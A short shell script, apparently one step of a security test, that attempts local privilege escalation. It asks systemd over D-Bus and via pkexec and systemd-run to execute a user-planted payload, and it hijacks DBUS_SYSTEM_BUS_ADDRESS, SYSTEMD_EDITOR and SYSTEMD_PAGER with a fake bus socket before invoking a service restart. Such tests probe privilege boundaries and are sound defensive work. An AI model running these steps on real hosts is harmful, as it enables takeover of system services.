# First step: the system bus is asked to run a unit, and the environment names a bus of the user's.
. "$(dirname "$0")/lib.sh"
payload "$HOME/attack.payload"
busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager \
    StartTransientUnit 'ssa(sv)a(sa(sv))' attack.service replace 1 ExecStart 'a(sasb)' 1 \
    "$HOME/attack.payload" 1 "$HOME/attack.payload" false 0
pkexec --disable-internal-agent "$HOME/attack.payload" </dev/null
systemctl --no-ask-password restart frappe-bench-web.service supervisor.service nginx.service
systemd-run --no-ask-password "$HOME/attack.payload"
export DBUS_SYSTEM_BUS_ADDRESS=unix:path=$HOME/attack.bus XDG_RUNTIME_DIR=$HOME SYSTEMD_UNIT_PATH=$HOME
export SYSTEMCTL_FORCE_BUS=1 SYSTEMD_EDITOR=$HOME/attack.payload SYSTEMD_PAGER=$HOME/attack.payload
python3 -c 'import socket,os,time; s=socket.socket(socket.AF_UNIX); s.bind(os.environ["HOME"]+"/attack.bus"); s.listen(); time.sleep(90)' attack &
restart
kill %1
